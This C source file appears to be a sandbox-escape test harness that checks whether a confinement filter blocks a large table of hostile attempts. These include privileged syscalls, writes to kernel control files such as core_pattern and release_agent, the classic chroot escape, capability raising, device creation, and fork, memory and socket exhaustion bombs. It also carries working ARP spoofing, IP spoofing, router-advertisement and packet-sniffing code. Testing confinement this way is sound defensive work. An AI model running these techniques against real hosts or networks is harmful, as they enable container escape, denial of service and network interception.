/* What a hostile program tries, one attempt per name. Every attempt is harmless when it works: files
 * are opened and not written, system calls get arguments that change nothing of the host.
 *
 *     attack all             every attempt of the table, each in a process of its own: `NAME RESULT`
 *     attack NAME [ARG...]   one of them
 *
 * RESULT is OK, the name of an errno, `signal N`, or what the attempt itself says.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/if_packet.h>
#include <linux/netlink.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static const char *result(long value) {
    return value >= 0 ? "OK" : strerrorname_np(errno);
}

#define CALL(...) result(syscall(__VA_ARGS__))
#define ATTEMPT(name) static const char *try_##name(void)

/* ---- calls behind the filter ---- */

#define SOCKET(name, family, type, protocol) \
    ATTEMPT(name) {                          \
        return CALL(SYS_socket, family, type, protocol); \
    }
SOCKET(af_alg, 38, SOCK_SEQPACKET, 0)
SOCKET(af_alg_upper_bits, 38 | 1L << 32, SOCK_SEQPACKET, 0)
SOCKET(af_vsock, 40, SOCK_STREAM, 0)
SOCKET(af_key, 15, SOCK_RAW, 2)
SOCKET(af_rxrpc, 33, SOCK_DGRAM, AF_INET)
SOCKET(netlink_xfrm, AF_NETLINK, SOCK_RAW, 6)

#define SYSTEM_CALL(name, ...) \
    ATTEMPT(name) {            \
        return CALL(__VA_ARGS__); \
    }
SYSTEM_CALL(add_key, SYS_add_key, "user", "attack", "x", 1L, -2L)
SYSTEM_CALL(keyctl, SYS_keyctl, 0L, -3L, 1L)
SYSTEM_CALL(request_key, SYS_request_key, "user", "attack", NULL, 0L)
SYSTEM_CALL(bpf, SYS_bpf, 999L, NULL, 0L)
SYSTEM_CALL(perf_event_open, SYS_perf_event_open, NULL, 0L, -1L, -1L, 0L)
SYSTEM_CALL(io_uring_setup, SYS_io_uring_setup, 0L, NULL)
SYSTEM_CALL(userfaultfd, SYS_userfaultfd, 1L << 30)
SYSTEM_CALL(clone3, SYS_clone3, NULL, 0L)
SYSTEM_CALL(unshare_user, SYS_unshare, (long)CLONE_NEWUSER)
SYSTEM_CALL(unshare_mount, SYS_unshare, (long)CLONE_NEWNS)
SYSTEM_CALL(unshare_net, SYS_unshare, (long)CLONE_NEWNET)
SYSTEM_CALL(fsopen_overlay, SYS_fsopen, "overlay", 0L)
SYSTEM_CALL(fsconfig, SYS_fsconfig, -1L, 0L, NULL, NULL, 0L)
SYSTEM_CALL(open_tree, SYS_open_tree, AT_FDCWD, "/", 1L)
SYSTEM_CALL(move_mount, SYS_move_mount, -1L, "", -1L, "", 4L)
SYSTEM_CALL(mount_setattr, SYS_mount_setattr, -1L, "", 0L, NULL, 0L)
SYSTEM_CALL(mount_tmpfs, SYS_mount, "none", "/tmp", "tmpfs", 0L, NULL)
SYSTEM_CALL(remount_root, SYS_mount, NULL, "/proc/sys", NULL, (long)(MS_REMOUNT | MS_BIND), NULL)
SYSTEM_CALL(umount_mask, SYS_umount2, "/proc/keys", (long)MNT_DETACH)
SYSTEM_CALL(pivot_root, SYS_pivot_root, "/", "/")
SYSTEM_CALL(name_to_handle_at, SYS_name_to_handle_at, AT_FDCWD, "/", NULL, NULL, 0L)
SYSTEM_CALL(open_by_handle_at, SYS_open_by_handle_at, -1L, NULL, 0L)
SYSTEM_CALL(kexec_load, SYS_kexec_load, 0L, -1L, NULL, 0L)
SYSTEM_CALL(init_module, SYS_init_module, NULL, 0L, "")
SYSTEM_CALL(delete_module, SYS_delete_module, "", 0L)
SYSTEM_CALL(swapon, SYS_swapon, "/none", 0L)
SYSTEM_CALL(reboot, SYS_reboot, 0L, 0L, 0L, NULL)
SYSTEM_CALL(acct, SYS_acct, "/none")
SYSTEM_CALL(iopl, SYS_iopl, 4L)
SYSTEM_CALL(clock_settime, SYS_clock_settime, 0L, NULL)
SYSTEM_CALL(syslog_read, SYS_syslog, 9L, NULL, 0L)
SYSTEM_CALL(personality_exec, SYS_personality, 0x0400000L)
SYSTEM_CALL(fanotify_init, SYS_fanotify_init, 1L << 30, 0L)
SYSTEM_CALL(pidfd_getfd, SYS_pidfd_getfd, -1L, 0L, 0L)
SYSTEM_CALL(move_pages, SYS_move_pages, 1L, 0L, NULL, NULL, NULL, 0L)
SYSTEM_CALL(listmount, 458L, NULL, NULL, 0L, 0L)
SYSTEM_CALL(vhangup, SYS_vhangup)

ATTEMPT(clone_user) {
    long pid = syscall(SYS_clone, (long)(CLONE_NEWUSER | SIGCHLD), 0L, 0L, 0L, 0L);
    if (pid == 0)
        _exit(0);
    return result(pid);
}

ATTEMPT(setns_pid1) {
    int fd = open("/proc/1/ns/net", O_RDONLY);
    return fd < 0 ? "no descriptor" : CALL(SYS_setns, (long)fd, (long)CLONE_NEWNET);
}

#ifdef __x86_64__
#define X32 0x40000000L
SYSTEM_CALL(x32_getpid, X32 | SYS_getpid)
SYSTEM_CALL(x32_socket_alg, X32 | SYS_socket, 38L, (long)SOCK_SEQPACKET, 0L)
SYSTEM_CALL(x32_unshare, X32 | SYS_unshare, (long)CLONE_NEWUSER)

static const char *i386(long number, long a, long b, long c) {
    long out;
    __asm__ volatile("int $0x80"
                     : "=a"(out)
                     : "a"(number), "b"(a), "c"(b), "d"(c), "S"(0L), "D"(0L)
                     : "memory", "r8", "r9", "r10", "r11");
    errno = (int)-out;
    return out >= 0 ? "OK" : strerrorname_np(errno);
}
#define I386(name, ...) \
    ATTEMPT(name) {     \
        return i386(__VA_ARGS__); \
    }
I386(i386_getpid, 20, 0, 0, 0)
I386(i386_socketcall, 102, 1, 0, 0)
I386(i386_socket_alg, 359, 38, SOCK_SEQPACKET, 0)
I386(i386_unshare, 310, CLONE_NEWUSER, 0, 0)
I386(i386_keyctl, 288, 0, -3, 1)
I386(i386_mount, 21, 0, 0, 0)
I386(i386_bpf, 357, 999, 0, 0)
I386(i386_clone3, 435, 0, 0, 0)
#endif

/* ---- paths ---- */

static const char *write_open(const char *path) {
    return result(open(path, O_WRONLY | O_NOFOLLOW | O_CLOEXEC));
}

static const char *first_byte(const char *path) {
    char byte;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return strerrorname_np(errno);
    ssize_t got = read(fd, &byte, 1);
    return got < 0 ? strerrorname_np(errno) : got ? "OK" : "empty";
}

static const char *first_entry(const char *path) {
    DIR *directory = opendir(path);
    struct dirent *entry;
    if (!directory)
        return strerrorname_np(errno);
    while ((entry = readdir(directory)))
        if (entry->d_name[0] != '.')
            return "OK";
    return "empty";
}

#define WRITE_OPEN(name, path) \
    ATTEMPT(name) {            \
        return write_open(path); \
    }
WRITE_OPEN(write_core_pattern, "/proc/sys/kernel/core_pattern")
WRITE_OPEN(write_modprobe, "/proc/sys/kernel/modprobe")
WRITE_OPEN(write_binfmt, "/proc/sys/fs/binfmt_misc/register")
WRITE_OPEN(write_sysrq, "/proc/sysrq-trigger")
WRITE_OPEN(write_irq, "/proc/irq/default_smp_affinity")
WRITE_OPEN(write_panic, "/proc/sys/kernel/panic")
WRITE_OPEN(write_uevent_helper, "/sys/kernel/uevent_helper")
WRITE_OPEN(write_hibernate, "/sys/power/state")
WRITE_OPEN(write_vmcoreinfo, "/sys/kernel/mm/transparent_hugepage/enabled")
WRITE_OPEN(write_v1_procs, "/sys/fs/cgroup/memory/cgroup.procs")
WRITE_OPEN(write_v1_limit, "/sys/fs/cgroup/memory/memory.limit_in_bytes")
WRITE_OPEN(write_v1_devices, "/sys/fs/cgroup/devices/devices.allow")
WRITE_OPEN(write_release_agent, "/sys/fs/cgroup/memory/release_agent")
WRITE_OPEN(write_notify, "/sys/fs/cgroup/memory/notify_on_release")
WRITE_OPEN(write_v2_procs, "/sys/fs/cgroup/cgroup.procs")
WRITE_OPEN(write_v2_limit, "/sys/fs/cgroup/memory.max")

#define FIRST_BYTE(name, path) \
    ATTEMPT(name) {            \
        return first_byte(path); \
    }
FIRST_BYTE(read_kcore, "/proc/kcore")
FIRST_BYTE(read_keys, "/proc/keys")
FIRST_BYTE(read_timer_list, "/proc/timer_list")
FIRST_BYTE(read_interrupts, "/proc/interrupts")
FIRST_BYTE(read_kmsg, "/proc/kmsg")
FIRST_BYTE(read_kallsyms_slabinfo, "/proc/slabinfo")
FIRST_BYTE(read_pagemap_flags, "/proc/kpageflags")
#define FIRST_ENTRY(name, path) \
    ATTEMPT(name) {             \
        return first_entry(path); \
    }
FIRST_ENTRY(list_acpi, "/proc/acpi")
FIRST_ENTRY(list_scsi, "/proc/scsi")
FIRST_ENTRY(list_firmware, "/sys/firmware")
FIRST_ENTRY(list_debugfs, "/sys/kernel/debug")
FIRST_ENTRY(list_tracefs, "/sys/kernel/tracing")

ATTEMPT(kernel_addresses) {
    char line[256];
    FILE *file = fopen("/proc/kallsyms", "r");
    if (!file)
        return strerrorname_np(errno);
    return !fgets(line, sizeof line, file)            ? "empty"
           : strtoull(line, NULL, 16) == 0 ? "zeroes"
                                           : "OK";
}

/* The classic way out of a chroot that has the old root still mounted. */
ATTEMPT(chroot_escape) {
    struct stat root, reached;
    int start = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/jail", 0700);
    if (stat("/", &root) || chroot("/tmp/jail") || fchdir(start))
        return strerrorname_np(errno);
    for (int depth = 0; depth < 64; depth++)
        if (chdir(".."))
            return strerrorname_np(errno);
    if (chroot(".") || stat("/", &reached))
        return strerrorname_np(errno);
    return root.st_ino == reached.st_ino && root.st_dev == reached.st_dev ? "contained" : "OK";
}

ATTEMPT(descriptors) {
    for (int fd = 3; fd < 1024; fd++)
        if (fcntl(fd, F_GETFD) >= 0)
            return "OK";
    return "none";
}

ATTEMPT(foreign_process) {
    char text[64];
    for (int pid = 1; pid < 4194304; pid = pid < 65536 ? pid + 1 : pid * 2) {
        if (pid == getpid() || pid == getppid() || pid == 1 || kill(pid, 0))
            continue;
        snprintf(text, sizeof text, "/proc/%d/exe", pid);
        char target[256] = {0};
        if (readlink(text, target, sizeof target - 1) < 0 ||
            (strcmp(target, "/bin/attack") && strcmp(target, "/bin/busybox")))
            return "OK";
    }
    return "none";
}

ATTEMPT(abstract_socket) {
    char line[512];
    FILE *file = fopen("/proc/net/unix", "r");
    while (file && fgets(line, sizeof line, file))
        if (strchr(line, '@'))
            return "OK";
    return file ? "none" : strerrorname_np(errno);
}

ATTEMPT(host_terminal) {
    int count = 0;
    DIR *directory = opendir("/dev/pts");
    struct dirent *entry;
    while (directory && (entry = readdir(directory)))
        count += entry->d_name[0] >= '0' && entry->d_name[0] <= '9';
    return !directory ? strerrorname_np(errno) : count ? "OK" : "none";
}

WRITE_OPEN(console, "/dev/console")
WRITE_OPEN(kmsg, "/dev/kmsg")
WRITE_OPEN(fuse, "/dev/fuse")
WRITE_OPEN(kvm, "/dev/kvm")

/* ---- devices: made where device files count, then opened ---- */

static const char *device(mode_t type, unsigned major, unsigned minor) {
    static const char path[] = "/dev/attack-device";
    unlink(path);
    if (mknod(path, type | 0600, makedev(major, minor)))
        return strerrorname_np(errno);
    const char *said = result(open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC));
    unlink(path);
    if (!strcmp(said, "EPERM"))
        return "made, not opened";
    return said;
}
#define DEVICE(name, type, major, minor) \
    ATTEMPT(name) {                      \
        return device(type, major, minor); \
    }
DEVICE(device_mem, S_IFCHR, 1, 1)
DEVICE(device_kmsg, S_IFCHR, 1, 11)
DEVICE(device_loop, S_IFBLK, 7, 0)
DEVICE(device_disk, S_IFBLK, 254, 0)
DEVICE(device_loop_control, S_IFCHR, 10, 237)

/* ---- capabilities ---- */

static unsigned long long status_mask(const char *name) {
    char line[256];
    size_t length = strlen(name);
    FILE *file = fopen("/proc/self/status", "r");
    unsigned long long mask = ~0ull;
    while (file && fgets(line, sizeof line, file))
        if (!strncmp(line, name, length) && line[length] == ':')
            mask = strtoull(line + length + 1, NULL, 16);
    if (file)
        fclose(file);
    return mask;
}

#define MASK(name, field)                                        \
    ATTEMPT(name) {                                              \
        static char text[32];                                    \
        snprintf(text, sizeof text, "%llx", status_mask(field)); \
        return text;                                             \
    }
MASK(cap_inheritable, "CapInh")
MASK(cap_ambient, "CapAmb")
MASK(cap_bounding, "CapBnd")
MASK(cap_effective, "CapEff")

ATTEMPT(cap_raise) {
    struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct data[2];
    if (syscall(SYS_capget, &header, data))
        return strerrorname_np(errno);
    data[0].permitted |= 1u << CAP_SYS_ADMIN;
    data[0].effective |= 1u << CAP_SYS_ADMIN;
    return CALL(SYS_capset, &header, data);
}

/* A program whose file asks for CAP_SYS_ADMIN, which SETFCAP may write. */
ATTEMPT(cap_file) {
    const uint32_t value[] = {0x02000001, 1u << CAP_SYS_ADMIN, 0, 0, 0};
    char copy[] = "/tmp/attack-capable";
    char bytes[65536];
    int from = open("/proc/self/exe", O_RDONLY), to = open(copy, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    ssize_t got;
    while ((got = read(from, bytes, sizeof bytes)) > 0)
        if (write(to, bytes, (size_t)got) != got)
            return strerrorname_np(errno);
    close(to);
    if (setxattr(copy, "security.capability", value, sizeof value, 0))
        return "cannot write the attribute";
    pid_t pid = fork();
    if (pid == 0) {
        execl(copy, copy, "has_sys_admin", NULL);
        _exit(errno == EPERM ? 3 : 4);
    }
    int status;
    waitpid(pid, &status, 0);
    unlink(copy);
    return WEXITSTATUS(status) == 3 ? "EPERM" : WEXITSTATUS(status) == 0 ? "OK" : "no capability";
}

ATTEMPT(ptrace_pid1) {
    return CALL(SYS_ptrace, (long)PTRACE_SEIZE, 1L, 0L, 0L);
}

ATTEMPT(raise_limit) {
    struct rlimit64 {
        uint64_t soft, hard;
    } limit = {1 << 20, 1 << 20};
    return CALL(SYS_prlimit64, 0L, 7L, &limit, NULL);
}

ATTEMPT(nice_below_zero) {
    return CALL(SYS_setpriority, 0L, 0L, -20L);
}

ATTEMPT(real_time) {
    struct sched_param parameter = {.sched_priority = 1};
    return result(sched_setscheduler(0, SCHED_FIFO, &parameter));
}

ATTEMPT(oom_immune) {
    int fd = open("/proc/self/oom_score_adj", O_WRONLY | O_CLOEXEC);
    return fd < 0 ? strerrorname_np(errno) : result(write(fd, "-1000", 5));
}

/* ---- counts ---- */

static const char *counted(long count) {
    static char text[64];
    snprintf(text, sizeof text, "%ld %s", count, strerrorname_np(errno));
    return text;
}

static const char *exhaust_inotify(void) {
    long count = 0;
    while (count < 20000 && inotify_init1(IN_CLOEXEC) >= 0)
        count++;
    return counted(count);
}

static const char *exhaust_message_queues(void) {
    long count = 0;
    struct {
        long flags, maximum, size, current, padding[4];
    } attributes = {0, 10, 8192, 0, {0}};
    char name[32];
    for (; count < 20000; count++) {
        snprintf(name, sizeof name, "attack%ld", count);
        if (syscall(SYS_mq_open, name, O_CREAT | O_RDWR, 0600, &attributes) < 0)
            break;
    }
    int error = errno;
    for (long i = 0; i < count; i++) {
        snprintf(name, sizeof name, "attack%ld", i);
        if (getenv("ATTACK_LETS_GO"))
            syscall(SYS_mq_unlink, name);
    }
    errno = error;
    return counted(count);
}

static const char *exhaust_signals(void) {
    long count = 0;
    sigset_t all;
    sigfillset(&all);
    sigprocmask(SIG_SETMASK, &all, NULL);
    while (count < 1000000 && sigqueue(getpid(), SIGRTMIN + 1, (union sigval){0}) == 0)
        count++;
    return counted(count);
}

static const char *exhaust_descriptors(void) {
    long count = 0;
    while (count < 2000000 && dup(0) >= 0)
        count++;
    return counted(count);
}

static const char *exhaust_processes(void) {
    long count = 0;
    int error = 0;
    for (; count < 5000; count++) {
        pid_t pid = fork();
        if (pid < 0) {
            error = errno;
            break;
        }
        if (pid == 0) {
            pause();
            _exit(0);
        }
    }
    signal(SIGTERM, SIG_IGN);
    kill(0, SIGTERM);
    while (wait(NULL) > 0)
        ;
    errno = error;
    return counted(count);
}

static const char *fill(const char *path) {
    static char block[1 << 20];
    long count = 0;
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
    if (fd < 0)
        return strerrorname_np(errno);
    errno = 0;
    while (count < 4096 && write(fd, block, sizeof block) == (ssize_t)sizeof block)
        count++;
    int error = errno;
    unlink(path);
    close(fd);
    errno = error;
    return counted(count);
}

static const char *memory_bomb(void) {
    for (long mib = 0; mib < 1 << 20; mib++) {
        char *block = malloc(1 << 20);
        if (!block)
            return strerrorname_np(errno);
        memset(block, 1, 1 << 20);
    }
    return "OK";
}

/* Kernel memory: sockets that nobody reads. */
static const char *socket_bomb(void) {
    static char block[65536];
    long count = 0;
    for (;; count++) {
        int ends[2];
        if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, ends))
            return counted(count);
        while (write(ends[0], block, sizeof block) > 0)
            ;
    }
}

static const char *inode_fill(const char *directory) {
    char path[256];
    long count = 0;
    for (;; count++) {
        snprintf(path, sizeof path, "%s/%ld", directory, count);
        if (mknod(path, S_IFREG | 0600, 0))
            return counted(count);
    }
}

/* ---- the moment of an exec: whoever comes into our pid namespace before it is our program ---- */

static const char *watch(int seconds) {
    time_t end = time(NULL) + seconds;
    long seen = 0, alien = 0;
    while (time(NULL) < end) {
        for (int pid = 2; pid < 400; pid++) {
            char path[64], target[256] = {0};
            if (pid == getpid() || kill(pid, 0))
                continue;
            seen++;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t length = readlink(path, target, sizeof target - 1);
            bool is_ours = length > 0 && (!strncmp(target, "/bin/", 5));
            if (is_ours)
                continue;
            if (length > 0)
                printf("exe %s\n", target);
            for (int fd = 0; fd < 64; fd++) {
                snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
                memset(target, 0, sizeof target);
                if (readlink(path, target, sizeof target - 1) > 0 && fd > 2 &&
                    strncmp(target, "/", 1) == 0)
                    printf("descriptor %d %s\n", fd, target);
            }
            snprintf(path, sizeof path, "/proc/%d/mem", pid);
            int memory = open(path, O_RDWR);
            char now[256] = {0};
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            if (memory >= 0 && readlink(path, now, sizeof now - 1) <= 0)
                printf("memory of %d\n", pid);
            if (memory >= 0)
                close(memory);
            alien++;
        }
    }
    printf("saw %ld strange %ld\n", seen, alien);
    return "done";
}

/* ---- network ---- */

static uint16_t checksum(const void *data, size_t length) {
    const uint8_t *byte = data;
    uint32_t sum = 0;
    for (size_t i = 0; i + 1 < length; i += 2)
        sum += (uint32_t)byte[i] << 8 | byte[i + 1];
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

/* A UDP datagram with whatever source address. */
static const char *spoof(const char *from, const char *to, int port) {
    struct {
        struct iphdr ip;
        uint16_t source, destination, length, sum;
        char text[8];
    } __attribute__((packed)) packet = {
        .ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP},
        .source = htons(1234), .destination = htons((uint16_t)port), .length = htons(16),
        .text = "attack!",
    };
    packet.ip.tot_len = htons(sizeof packet);
    packet.ip.saddr = inet_addr(from);
    packet.ip.daddr = inet_addr(to);
    packet.ip.check = checksum(&packet.ip, sizeof packet.ip);
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = inet_addr(to)};
    if (fd < 0)
        return strerrorname_np(errno);
    return result(
        sendto(fd, &packet, sizeof packet, 0, (struct sockaddr *)&address, sizeof address));
}

static const char *frame(const char *interface, int protocol, const void *data, size_t length) {
    int fd = socket(AF_PACKET, SOCK_DGRAM, htons((uint16_t)protocol));
    struct sockaddr_ll address = {
        .sll_family = AF_PACKET, .sll_protocol = htons((uint16_t)protocol),
        .sll_ifindex = (int)if_nametoindex(interface), .sll_halen = 6,
        .sll_addr = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff},
    };
    if (fd < 0)
        return strerrorname_np(errno);
    return result(sendto(fd, data, length, 0, (struct sockaddr *)&address, sizeof address));
}

/* "The address `mine` is at 02:00:00:00:00:66", to everybody. */
static const char *arp_spoof(const char *interface, const char *mine) {
    uint8_t reply[28] = {0, 1, 8, 0, 6, 4, 0, 2, 2, 0, 0, 0, 0, 0x66};
    in_addr_t address = inet_addr(mine);
    memcpy(reply + 14, &address, 4);
    memset(reply + 18, 0xff, 6);
    memcpy(reply + 24, &address, 4);
    return frame(interface, 0x0806, reply, sizeof reply);
}

/* CVE-2020-13401: a router advertisement from fe80::66 to all nodes. */
static const char *router_advertisement(const char *interface) {
    uint8_t packet[56] = {0x60, 0, 0, 0, 0, 16, 58, 255, 0xfe, 0x80};
    packet[23] = 0x66, packet[24] = 0xff, packet[25] = 2, packet[39] = 1;
    packet[40] = 134, packet[44] = 64, packet[46] = 0x07, packet[47] = 0x08;
    uint32_t sum = 16 + 58;
    for (int i = 8; i < 56; i += 2)
        sum += (uint32_t)packet[i] << 8 | packet[i + 1];
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    packet[42] = (uint8_t)(~sum >> 8), packet[43] = (uint8_t)~sum;
    return frame(interface, 0x86dd, packet, sizeof packet);
}

/* Prints every IPv4 or ARP packet on any interface that is not from or to ourselves alone. */
static const char *sniff(int milliseconds) {
    int fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL));
    if (fd < 0)
        return strerrorname_np(errno);
    printf("sniffing\n");
    fflush(stdout);
    struct pollfd ready = {fd, POLLIN, 0};
    while (poll(&ready, 1, milliseconds) > 0) {
        uint8_t data[2048];
        struct sockaddr_ll from;
        socklen_t length = sizeof from;
        ssize_t got = recvfrom(fd, data, sizeof data, 0, (struct sockaddr *)&from, &length);
        if (got >= 20 && from.sll_pkttype != PACKET_OUTGOING && memmem(data, (size_t)got, "attack!", 7))
            printf("caught\n");
        fflush(stdout);
    }
    return "done";
}

static const char *connect_to(const char *address, int port) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port),
                             .sin_addr.s_addr = inet_addr(address)};
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (connect(fd, (struct sockaddr *)&to, sizeof to) == 0)
        return "OK";
    struct pollfd ready = {fd, POLLOUT, 0};
    if (errno != EINPROGRESS)
        return strerrorname_np(errno);
    if (poll(&ready, 1, 400) == 0)
        return "ETIMEDOUT";
    int error = 0;
    socklen_t length = sizeof error;
    getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &length);
    return error ? strerrorname_np(error) : "OK";
}

/* ---- what the filter costs each call ---- */

static const char *call_cost(void) {
    static char text[64];
    struct timespec from, to;
    const long calls = 2000000;
    clock_gettime(CLOCK_MONOTONIC, &from);
    for (long i = 0; i < calls; i++)
        syscall(SYS_getppid);
    clock_gettime(CLOCK_MONOTONIC, &to);
    double ns = (double)(to.tv_sec - from.tv_sec) * 1e9 + (double)(to.tv_nsec - from.tv_nsec);
    snprintf(text, sizeof text, "%.1f ns", ns / (double)calls);
    return text;
}

/* ---- all of them ---- */

#define ROW(name) {#name, try_##name}
static const struct {
    const char *name;
    const char *(*attempt)(void);
} attempts[] = {
    ROW(af_alg), ROW(af_alg_upper_bits), ROW(af_vsock), ROW(af_key), ROW(af_rxrpc),
    ROW(netlink_xfrm), ROW(add_key), ROW(keyctl), ROW(request_key), ROW(bpf), ROW(perf_event_open),
    ROW(io_uring_setup), ROW(userfaultfd), ROW(clone3), ROW(clone_user), ROW(unshare_user),
    ROW(unshare_mount), ROW(unshare_net), ROW(setns_pid1), ROW(fsopen_overlay), ROW(fsconfig),
    ROW(open_tree), ROW(move_mount), ROW(mount_setattr), ROW(mount_tmpfs), ROW(remount_root),
    ROW(umount_mask), ROW(pivot_root), ROW(name_to_handle_at), ROW(open_by_handle_at),
    ROW(kexec_load), ROW(init_module), ROW(delete_module), ROW(swapon), ROW(reboot), ROW(acct),
    ROW(iopl), ROW(clock_settime), ROW(syslog_read), ROW(personality_exec), ROW(fanotify_init),
    ROW(pidfd_getfd), ROW(move_pages), ROW(listmount), ROW(vhangup),
#ifdef __x86_64__
    ROW(x32_getpid), ROW(x32_socket_alg), ROW(x32_unshare), ROW(i386_getpid), ROW(i386_socketcall),
    ROW(i386_socket_alg), ROW(i386_unshare), ROW(i386_keyctl), ROW(i386_mount), ROW(i386_bpf),
    ROW(i386_clone3),
#endif
    ROW(write_core_pattern), ROW(write_modprobe), ROW(write_binfmt), ROW(write_sysrq),
    ROW(write_irq), ROW(write_panic), ROW(write_uevent_helper), ROW(write_hibernate),
    ROW(write_vmcoreinfo), ROW(write_v1_procs), ROW(write_v1_limit), ROW(write_v1_devices),
    ROW(write_release_agent), ROW(write_notify), ROW(write_v2_procs), ROW(write_v2_limit),
    ROW(read_kcore), ROW(read_keys), ROW(read_timer_list), ROW(read_interrupts), ROW(read_kmsg),
    ROW(read_kallsyms_slabinfo), ROW(read_pagemap_flags), ROW(list_acpi), ROW(list_scsi),
    ROW(list_firmware), ROW(list_debugfs), ROW(list_tracefs), ROW(kernel_addresses),
    ROW(chroot_escape), ROW(descriptors), ROW(foreign_process), ROW(abstract_socket),
    ROW(host_terminal), ROW(console), ROW(kmsg), ROW(fuse), ROW(kvm), ROW(device_mem),
    ROW(device_kmsg), ROW(device_loop), ROW(device_disk), ROW(device_loop_control),
    ROW(cap_inheritable), ROW(cap_ambient), ROW(cap_bounding), ROW(cap_effective), ROW(cap_raise),
    ROW(cap_file), ROW(ptrace_pid1), ROW(raise_limit), ROW(nice_below_zero), ROW(real_time),
    ROW(oom_immune),
};
enum { ATTEMPTS = sizeof attempts / sizeof *attempts };

static void run_all(void) {
    for (size_t i = 0; i < ATTEMPTS; i++) {
        char text[128] = {0};
        int ends[2], status;
        if (pipe(ends))
            _exit(2);
        pid_t pid = fork();
        if (pid == 0) {
            close(ends[0]);
            ends[1] = dup2(ends[1], 2);
            for (int fd = 3; fd < 64; fd++)
                close(fd);
            alarm(5);
            const char *said = attempts[i].attempt();
            _exit(write(ends[1], said, strlen(said)) < 0);
        }
        close(ends[1]);
        if (read(ends[0], text, sizeof text - 1) < 0)
            _exit(2);
        close(ends[0]);
        waitpid(pid, &status, 0);
        if (WIFSIGNALED(status))
            snprintf(text, sizeof text, "signal %d", WTERMSIG(status));
        printf("%s %s\n", attempts[i].name, text);
    }
    printf("all done\n");
    fflush(stdout);
}

int main(int argc, char **argv) {
    const char *name = argc > 1 ? argv[1] : "";
    const char *said = NULL;
#define IS(text, arguments) (!strcmp(name, text) && argc == 2 + (arguments))
    if (IS("all", 0)) {
        run_all();
        return 0;
    }
    if (IS("all-to", 1)) {
        int fd = open(argv[2], O_WRONLY);
        if (fd < 0 || dup2(fd, 1) < 0)
            return 1;
        printf("through %s\n", argv[2]);
        run_all();
        return 0;
    }
    if (IS("has_sys_admin", 0))
        return status_mask("CapEff") >> CAP_SYS_ADMIN & 1 ? 0 : 5;
    if (IS("call-cost", 0))
        said = call_cost();
    else if (IS("inotify", 0))
        said = exhaust_inotify();
    else if (IS("inotify-hold", 0)) {
        printf("%s\n", exhaust_inotify());
        fflush(stdout);
        pause();
    } else if (IS("queues", 0))
        said = exhaust_message_queues();
    else if (IS("signals", 0))
        said = exhaust_signals();
    else if (IS("signals-hold", 0)) {
        printf("%s\n", exhaust_signals());
        fflush(stdout);
        for (;;)
            sleep(1);
    } else if (IS("descriptors-all", 0))
        said = exhaust_descriptors();
    else if (IS("processes", 0))
        said = exhaust_processes();
    else if (IS("fill", 1))
        said = fill(argv[2]);
    else if (IS("memory", 0))
        said = memory_bomb();
    else if (IS("sockets", 0))
        said = socket_bomb();
    else if (IS("inodes", 1))
        said = inode_fill(argv[2]);
    else if (IS("watch", 1))
        said = watch(atoi(argv[2]));
    else if (IS("spoof", 3))
        said = spoof(argv[2], argv[3], atoi(argv[4]));
    else if (IS("arp", 2))
        said = arp_spoof(argv[2], argv[3]);
    else if (IS("ra", 1))
        said = router_advertisement(argv[2]);
    else if (IS("sniff", 1))
        said = sniff(atoi(argv[2]));
    else if (IS("connect", 2))
        said = connect_to(argv[2], atoi(argv[3]));
    for (size_t i = 0; !said && i < ATTEMPTS; i++)
        if (!strcmp(attempts[i].name, name))
            said = attempts[i].attempt();
    if (!said)
        return 2;
    printf("%s\n", said);
    return 0;
}
